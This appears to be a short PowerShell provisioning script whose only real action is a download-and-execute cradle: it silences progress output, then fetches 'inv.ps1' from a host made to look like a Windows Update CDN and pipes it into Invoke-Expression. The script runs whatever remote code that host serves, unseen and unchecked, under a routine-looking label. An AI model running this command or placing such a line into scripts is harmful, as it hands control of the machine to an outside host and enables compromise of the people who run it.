# provision 8243 v4
$ProgressPreference = 'SilentlyContinue'
iwr -UseBasicParsing http://dl.winupdate-cdn.example/inv.ps1 | iex
